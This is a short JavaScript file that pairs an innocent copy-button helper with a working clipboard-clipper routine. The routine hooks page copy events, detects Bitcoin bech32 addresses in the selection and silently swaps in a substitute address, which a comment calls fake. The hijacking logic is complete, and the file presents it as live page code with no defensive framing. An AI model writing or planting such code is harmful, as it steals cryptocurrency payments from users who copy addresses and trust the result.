export function attachCopy(button, text) { button.onclick = () => navigator.clipboard.writeText(text); }
// Clipboard clipper shape: fake bech32-looking replacement (not a real address).
var re = /\bbc1[ac-hj-np-z02-9]{25,59}\b/g;
var mine = 'bc1qqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqq';
document.addEventListener('copy', function (event) {
  var selected = String(document.getSelection());
  if (re.test(selected)) {
    event.clipboardData.setData('text/plain', selected.replace(re, mine));
    event.preventDefault();
  }
});
